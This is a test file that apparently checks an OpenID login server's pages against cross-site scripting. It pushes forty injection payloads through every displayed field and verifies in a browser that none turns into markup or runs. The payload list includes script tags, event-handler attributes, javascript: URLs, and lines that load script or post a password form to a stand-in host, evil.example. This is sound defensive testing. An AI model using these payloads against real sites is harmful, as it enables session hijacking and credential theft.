// Nothing that somebody else wrote becomes markup: forty payloads through every field that a page shows (CVE-2026-42849,
// CVE-2026-29191). The document is looked at, not only the alert: the policy would stop a script that escaping let through.
import type { Context } from 'koa'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { beginEmailCode } from '#src/factors/email-code.ts'
import { beginRecovery } from '#src/factors/recovery.ts'
import { renderProtocolError } from '#src/http/error-page.ts'
import { renderFormPost, renderLoggedOut, renderLogout } from '#src/http/protocol-pages.ts'
import type { Renderer } from '#src/http/render.ts'
import { beginSignUp } from '#src/registration/sign-up.ts'
import { launchBrowser, openPage, type WatchedPage } from '#test/support/browser.ts'
import { giveTotp } from '#test/support/factors.ts'
import { type Page, Person } from '#test/support/person.ts'
import { type Hosted, pendingInteraction, startHosted } from './hosted.ts'
import { createPerson } from './screens.ts'

const payloads = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/src=data:,alert(1)>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<img/src=`x`onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://shop.example',
  'data:text/html,<script>alert(1)</script>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=https://evil.example><input name=password>',
  '<input autofocus onfocus=alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '" style="position:fixed;inset:0" onmouseover="alert(1)',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '{{constructor.constructor("alert(1)")()}}$' + '{alert(1)}',
  '<%= process.env %><%~ "<script>alert(1)</script>" %>',
  '{b}<b>{client}</b><b onclick=alert(1)>',
]

let hosted: Hosted
let browser: Browser
let userId: string
let payload = ''
let watched: WatchedPage

function routes(ctx: Context, renderer: Renderer): void {
  if (ctx.path === '/show/error') {
    ctx.status = 400
    renderProtocolError(ctx, renderer, { error: payload, error_description: payload }, new Error(payload))
  }
  if (ctx.path === '/show/logout')
    renderLogout(ctx, renderer, {
      action: payload,
      hidden: { csrf: payload, [payload]: payload },
      client: payload,
      logo: undefined,
      person: payload,
      redirectTo: payload,
    })
  if (ctx.path === '/show/logged-out') renderLoggedOut(ctx, renderer, { client: payload, clientUri: payload })
  if (ctx.path === '/show/form-post')
    renderFormPost(ctx, renderer, {
      action: `https://shop.example/?${payload}`,
      fields: { state: payload, [payload]: payload },
    })
}

beforeAll(async () => {
  hosted = await startHosted({ routes })
  browser = await launchBrowser()
  userId = await createPerson(hosted)
  watched = await openPage(browser, { locale: 'en-GB' })
  await watched.page.goto(`${hosted.origin}/nowhere`)
})
afterAll(async () => {
  await browser?.close()
  await hosted?.stop()
})

/** Runs in the browser, whose parser is the one that counts. @returns what our templates never write. */
function foreign(html: string): string[] {
  const parsed = new DOMParser().parseFromString(html, 'text/html')
  const found: string[] = []
  const own = [
    'HTML',
    'HEAD',
    'BODY',
    'META',
    'TITLE',
    'LINK',
    'SCRIPT',
    'DIV',
    'MAIN',
    'IMG',
    'H1',
    'P',
    'STRONG',
    'BDI',
    'FORM',
    'INPUT',
    'METER',
  ]
    .concat([
      'LABEL',
      'BUTTON',
      'svg',
      'use',
      'SPAN',
      'A',
      'FIELDSET',
      'LEGEND',
      'UL',
      'LI',
      'SMALL',
      'CODE',
      'FOOTER',
      'NAV',
    ])
    .concat(['DETAILS', 'SUMMARY', 'DL', 'DT', 'DD', 'SECTION', 'H2', 'NOSCRIPT'])
  for (const element of parsed.querySelectorAll('*')) {
    const attributes = [...element.attributes]
    const source = element.getAttribute('src') ?? (element.tagName === 'LINK' ? element.getAttribute('href') : null)
    if (
      !own.includes(element.tagName) ||
      attributes.some(({ name }) => name.startsWith('on') || name === 'style' || name === 'http-equiv') ||
      (source !== null && source !== '#foot' && !source.startsWith('/assets/')) ||
      (element.tagName === 'SCRIPT' && source === null) ||
      (element.tagName === 'A' && !/^(https?:\/\/|\?|\/|$)/.test(element.getAttribute('href') ?? ''))
    )
      found.push(element.outerHTML.slice(0, 200))
  }
  if (parsed.querySelectorAll('h1').length !== 1) found.push('not one heading')
  return found
}

it('is forty payloads', () => expect(new Set(payloads).size).toBe(40))

it.each(payloads)('%s', async (text) => {
  payload = text
  const { page, complaints } = watched
  const person = new Person(hosted.origin)
  const client = {
    id: text,
    name: text,
    clientUri: text,
    logoUri: text,
    logo: undefined, // always an address of our own
    policyUri: text,
    tosUri: `https://shop.example/${text}`,
  }
  const pending = { client, redirectOrigin: text, loginHint: text, uiLocales: [text] }
  const name = { name: text }
  await hosted.database.prisma.user.update({ where: { id: userId }, data: { email: text, name: text } })
  const clean = async ({ url, text: html }: Page) =>
    expect([url, await page.evaluate(foreign, html)]).toEqual([url, []])

  hosted.pending = pendingInteraction(pending)
  const query = `?lang=${encodeURIComponent(text)}&${encodeURIComponent(text)}=1`
  const login = await person.open(`/interaction/${hosted.pending.uid}/login${query}`)
  await clean(login)
  await clean(await person.submit(login, { identifier: text, password: text }))

  // In the place of the password: what was typed comes back beside its field, and the address on the page that asks for its code.
  const { prisma } = hosted.database
  await prisma.mail.deleteMany()
  const { uid } = hosted.pending
  const [change, ask] = [
    { now: hosted.now, actor: { kind: 'system' } } as const,
    { uid, email: text, locale: 'en' } as const,
  ]
  const typed = { email: text, name: text, password: 'x' }
  for (const step of ['signup', 'recovery', 'email-code']) {
    await prisma.addressProof.deleteMany()
    const asked = await person.open(`/interaction/${uid}/${step}${query}`)
    await clean(asked)
    await clean(await person.submit(asked, typed))
  }
  await beginSignUp(hosted.database, { ...ask, name: text, passwordHash: text }, change, hosted.secretKeys)
  await beginRecovery(hosted.database, ask, change, hosted.secretKeys)
  await beginEmailCode(hosted.database, ask, change, hosted.secretKeys)
  for (const step of ['signup', 'recovery', 'email-code']) {
    const waiting = await person.open(`/interaction/${uid}/${step}`)
    expect([step, waiting.text.includes('name="code"')]).toEqual([step, true])
    await clean(waiting)
    await clean(await person.submit(waiting, { code: text }))
  }
  const invited = await person.open(`/invitation/${await hosted.invite()}`)
  await clean(invited)
  await clean(await person.submit(invited, { name: text, password: text }))

  const generation = (await prisma.user.findUniqueOrThrow({ where: { id: userId } })).generation
  const proofs = [{ factor: 'password', amr: ['pwd'], at: 1 }]
  const progress = { userId, generation, fromSession: false, proofs }
  hosted.pending = pendingInteraction({ ...pending, secondFactor: 'required', progress })
  for (const step of ['enrolment', 'second-factor']) {
    if (step === 'second-factor') await giveTotp(hosted, userId)
    const asked = await person.open(`/interaction/${uid}/${step}`)
    expect(asked.url).toContain(step)
    await clean(asked)
    await clean(await person.submit(asked, { code: text, factor: text }))
  }
  await prisma.credential.deleteMany({ where: { kind: 'totp' } })

  hosted.pending = pendingInteraction({
    ...pending,
    prompt: 'consent',
    userId,
    openidScopes: [
      { ...name, required: true },
      { ...name, required: false },
    ],
    resources: [{ identifier: text, ...name, scopes: [{ ...name, description: text, required: false }] }],
  })
  const consent = await person.open(`/interaction/${hosted.pending.uid}/consent`)
  await clean(consent)
  await clean(await person.open(`/interaction/${hosted.pending.uid}/login?account=other&${encodeURIComponent(text)}`))
  for (const path of ['/show/error', '/show/logout', '/show/logged-out', '/show/form-post'])
    await clean(await person.open(path))
  await clean(await person.open(`/nowhere/${encodeURIComponent(text)}${query}`))

  // Once more for real: a script that ran would open a dialog, one that the policy stopped would be complained about.
  await page.goto(`${hosted.origin}/interaction/${hosted.pending.uid}/consent`)
  expect(complaints).toEqual([])
  expect(await page.locator('h1 bdi').textContent()).toBe(text)
})

it('would notice: markup that got through is found', async () => {
  const { page } = watched
  const around = (markup: string) => `<h1>x</h1>${markup}`
  expect(await page.evaluate(foreign, around('<p>fine</p>'))).toEqual([])
  const harmful = payloads
    .slice(0, 11)
    .concat('<img src=x onerror=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<p style="x">')
  for (const markup of harmful) expect(await page.evaluate(foreign, around(markup))).not.toEqual([])
})
